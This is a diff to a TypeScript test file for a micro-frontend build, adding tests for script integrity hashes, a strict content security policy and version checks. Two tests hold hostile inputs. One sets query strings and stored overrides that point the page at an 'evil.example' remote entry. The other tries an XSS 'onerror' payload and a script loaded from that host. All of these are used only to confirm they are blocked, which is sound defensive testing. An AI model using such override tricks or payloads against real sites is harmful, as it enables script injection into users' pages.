@@ -6,7 +6,7 @@ import { createHash } from 'node:crypto';
 import { chromium, type Browser } from '@playwright/test';
 import * as v from 'valibot';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { serveReleases } from '../testing/serve-releases.ts';
+import { serveReleases, type ServeOptions } from '../testing/serve-releases.ts';
 import { buildMonolith, type Monolith } from './build-monolith.ts';
 import { buildRemote } from './build-remote.ts';
 import { buildShell } from './build-shell.ts';
@@ -34,32 +34,82 @@ let browser: Browser;
 const base = (draft: ReleaseDraft) => `/assets/${draft.name}/${draft.version}`;
 const urls = (draft: ReleaseDraft, files: readonly string[]) => files.map((file) => `${base(draft)}/${file}`);
 
-function page(hints: readonly string[]): string {
-  const links = hints.map((href) => `<link rel="preload" as="script" href="${href}">`).join('');
+const hashOf = (path: string): string =>
+  [shell, remote]
+    .flatMap((draft) => draft.files.map((file) => [`${base(draft)}/${file.path}`, file.integrity] as const))
+    .find(([url]) => url === path)?.[1] ?? '';
+
+function page(hints: readonly string[], remoteHash = hashOf(`${base(remote)}/${remote.entry}`)): string {
+  const links = hints
+    .map(
+      (href) =>
+        `<link rel="preload" as="script" crossorigin nonce="n" href="${href}" integrity="${hashOf(href)}">`,
+    )
+    .join('');
+  const entry = `${base(shell)}/${shell.entry}`;
   return (
-    `<!doctype html><html data-remote="${base(remote)}/${remote.entry}"><head><title>t</title>` +
+    `<!doctype html><html data-remote="${base(remote)}/${remote.entry}" data-integrity="${remoteHash}"><head><title>t</title>` +
     `<link rel="icon" href="data:,">${links}</head>` +
-    `<body><script defer src="${base(shell)}/${shell.entry}"></script></body></html>`
+    `<body><script defer crossorigin nonce="n" integrity="${hashOf(entry)}" src="${entry}"></script></body></html>`
   );
 }
 
-async function visit(html: string) {
-  const server = await serveReleases(html, {
-    [base(shell)]: join(shellDir, 'dist'),
-    [base(remote)]: join(remoteDir, 'dist'),
-    '/assets/monolith/1': monolithDir,
-  });
+/** The policies of the edge's pages, as far as they are about scripts. */
+const strict = {
+  'content-security-policy':
+    "script-src 'nonce-n' 'strict-dynamic'; object-src 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types forecourt",
+  'integrity-policy': 'blocked-destinations=(script)',
+};
+
+interface VisitOptions extends ServeOptions {
+  readonly query?: string;
+  /** Runs in the page before its scripts. */
+  readonly before?: () => void;
+  /** Runs in the page when it stands. */
+  readonly then?: () => unknown;
+}
+
+const served = () => ({
+  [base(shell)]: join(shellDir, 'dist'),
+  [base(remote)]: join(remoteDir, 'dist'),
+  '/assets/monolith/1': monolithDir,
+});
+
+/** Opens a page that is not to be whole; answers what of it ran. `marked` are the changed files that were executed. */
+async function visitBroken(html: string, options: ServeOptions) {
+  const server = await serveReleases(html, served(), { headers: strict, ...options });
   const tab = await browser.newPage();
+  const complaints: string[] = [];
+  tab.on('console', (message) => complaints.push(message.text()));
+  tab.on('pageerror', (error) => complaints.push(error.message));
+  try {
+    await tab.goto(server.url, { waitUntil: 'load' });
+    await tab.waitForLoadState('networkidle');
+    const failure = await tab.evaluate(() => document.documentElement.getAttribute('data-failed'));
+    const ran = await tab.evaluate(() => (globalThis as { __ran?: string[] }).__ran);
+    const isWhole = await tab.getByRole('heading', { name: 'Good afternoon' }).isVisible();
+    return { ran, isWhole, complaints: [...complaints, failure].join('\n') };
+  } finally {
+    await tab.close();
+    await server.close();
+  }
+}
+
+async function visit(html: string, { query = '', before, then, ...options }: VisitOptions = {}) {
+  const server = await serveReleases(html, served(), { headers: strict, ...options });
+  const tab = await browser.newPage();
+  if (before) await tab.addInitScript(before);
   const complaints: string[] = [];
   tab.on('pageerror', (error) => complaints.push(error.message));
   tab.on('console', (message) => {
     if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
   });
   try {
-    await tab.goto(server.url);
+    await tab.goto(`${server.url}${query}`);
     await tab.getByRole('heading', { name: 'Good afternoon' }).waitFor({ timeout: 10_000 });
     const proof = await tab.evaluate(() => (globalThis as { proof?: unknown }).proof);
-    return { proof, complaints, requested: server.requested };
+    const answer = then && (await tab.evaluate(then));
+    return { proof, answer, complaints, requested: server.requested };
   } finally {
     await tab.close();
     await server.close();
@@ -147,9 +197,9 @@ describe('a release draft', () => {
     expect(script).toContain('mini_remote_2_0_1');
   });
 
-  it('keeps the entry of a remote within 8 KiB of brotli', () => {
+  it('keeps the entry of a remote within 9 KiB of brotli, with the hash of every chunk', () => {
     const entry = remote.files.find(({ path }) => path === remote.entry);
-    expect(entry?.brotliBytes).toBeLessThanOrEqual(8 * kibibyte);
+    expect(entry?.brotliBytes).toBeLessThanOrEqual(9 * kibibyte);
   });
 });
 
@@ -179,9 +229,126 @@ describe('the single bundle of the same code', () => {
       (file) => `<script defer src="/assets/monolith/1/${file}"></script>`,
     );
     const html = `<!doctype html><title>t</title><link rel="icon" href="data:,"><body>${scripts.join('')}</body>`;
-    const { proof, complaints, requested } = await visit(html);
+    const { proof, complaints, requested } = await visit(html, { headers: {} });
     expect(proof).toEqual({ sameReact: true, samePlatform: true });
     expect(complaints).toEqual([]);
     expect(requested.every((path) => path.startsWith('/assets/monolith/1/'))).toBe(true);
+  });
+});
+
+describe('integrity', () => {
+  it.each([
+    ['shell', shellDir, () => shell],
+    ['remote', remoteDir, () => remote],
+  ])('T13: the entry of the %s carries the hash of every other script of its release', (_, dir, draft) => {
+    const { entry, files } = draft();
+    const text = readFileSync(join(dir, 'dist', entry), 'utf8');
+    const scripts = files.filter(({ path }) => path.endsWith('.js') && path !== entry);
+    expect(scripts.length).toBeGreaterThan(3);
+    expect(scripts.filter(({ integrity }) => !text.includes(integrity))).toEqual([]);
+    expect(text).not.toContain('integrity of chunk');
+  });
+
+  it('T11, T13, F06: a changed byte in any script of the page is not executed, be it entry, chunk or shared chunk', async () => {
+    const whole = await visit(page([]));
+    expect(whole.requested.length).toBeGreaterThanOrEqual(6);
+    for (const changed of whole.requested) {
+      const change = (path: string, text: string) =>
+        path === changed ? `(globalThis.__ran ??= []).push("${path}");${text}` : text;
+      const broken = await visitBroken(page([]), { change });
+      expect([changed, broken.ran, broken.isWhole]).toEqual([changed, undefined, false]);
+      expect(broken.complaints).toMatch(/integrity/i);
+    }
+  });
+
+  it('T12: an entry without a hash is not executed under the header', async () => {
+    const broken = await visitBroken(page([], ''), {});
+    expect(broken.isWhole).toBe(false);
+    const { 'integrity-policy': _, ...others } = strict;
+    expect((await visitBroken(page([], ''), { headers: others })).isWhole).toBe(true);
+  });
+
+  it('T14: no manifest is emitted or asked for', async () => {
+    const { requested } = await visit(page([]));
+    const names = [shell, remote].flatMap(({ files }) => files.map(({ path }) => path));
+    expect([...names, ...requested].filter((path) => !/\.(js|css|woff2)$/.test(path))).toEqual([]);
+  });
+
+  it('T17: no query and no stored value leads the page to another script', async () => {
+    const evil = 'https://evil.example/remoteEntry.js';
+    const tricks = [
+      `mini=${evil}`,
+      `remote=${evil}`,
+      `remoteEntry=${evil}`,
+      `imo=${evil}`,
+      `import-map-overrides=${evil}`,
+      `mf-override=mini@${evil}`,
+      `__mf_override=${evil}`,
+      `publicPath=${evil}`,
+      `dev=1&entry=${evil}`,
+      `FEDERATION_DEBUG=1&mini@=${evil}`,
+    ];
+    const before = () => {
+      const address = 'https://evil.example/remoteEntry.js';
+      const override = JSON.stringify({ mini: address, remotes: { mini: address } });
+      for (const key of [
+        'import-map-override:mini',
+        'import-map-overrides',
+        'mf-override',
+        '__MF_DEVTOOLS__',
+        'FEDERATION_DEBUG',
+        'mini',
+      ]) {
+        localStorage.setItem(key, override);
+        sessionStorage.setItem(key, override);
+      }
+    };
+    const plain = await visit(page([]));
+    for (const trick of tricks) {
+      const tricked = await visit(page([]), { query: `?${trick}`, before });
+      expect([trick, tricked.requested.toSorted()]).toEqual([trick, plain.requested.toSorted()]);
+    }
+  });
+
+  it('T21: text does not become markup or code, and nobody makes a policy of their own', async () => {
+    const then = () => {
+      const outcome = (work: () => unknown) => {
+        try {
+          work();
+          return 'ran';
+        } catch {
+          return 'threw';
+        }
+      };
+      const types = (globalThis as unknown as { trustedTypes: { createPolicy(...args: unknown[]): unknown } })
+        .trustedTypes;
+      return [
+        outcome(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
+        outcome(() => document.body.insertAdjacentHTML('beforeend', '<b></b>')),
+        outcome(() => (document.createElement('iframe').srcdoc = '<b></b>')),
+        outcome(() => (document.createElement('script').src = 'https://evil.example/x.js')),
+        outcome(() => setTimeout('1')),
+        outcome(() => types.createPolicy('default', {})),
+        outcome(() => types.createPolicy('forecourt', {})),
+        outcome(() => types.createPolicy('mine', {})),
+      ];
+    };
+    const { answer } = await visit(page([]), { then });
+    expect(answer).toEqual(Array(8).fill('threw'));
+  });
+
+  it.each([
+    ['T26: a remote that brings and asks for another React', /(["'])\^19\.0\.0\1/g, '"^99.0.0"'],
+    ['F09, F10: a remote of another major of the contract', /(["'])\^1\.\d+\.0\1/g, '"^9.0.0"'],
+  ])('%s is refused before any of its code runs', async (_, range, other) => {
+    const entry = `${base(remote)}/${remote.entry}`;
+    const text = readFileSync(join(remoteDir, 'dist', remote.entry), 'utf8');
+    const hostile = text.replace(range, other).replaceAll('"19.3.1"', '"99.0.0"');
+    expect(hostile).toContain(other);
+    const hash = `sha384-${createHash('sha384').update(hostile).digest('base64')}`;
+    const change = (path: string, own: string) => (path === entry ? hostile : own);
+    const { isWhole, complaints } = await visitBroken(page([], hash), { change });
+    expect(isWhole).toBe(false);
+    expect(complaints).toMatch(/Version .* does not satisfy|Unsatisfied|singleton/i);
   });
 });
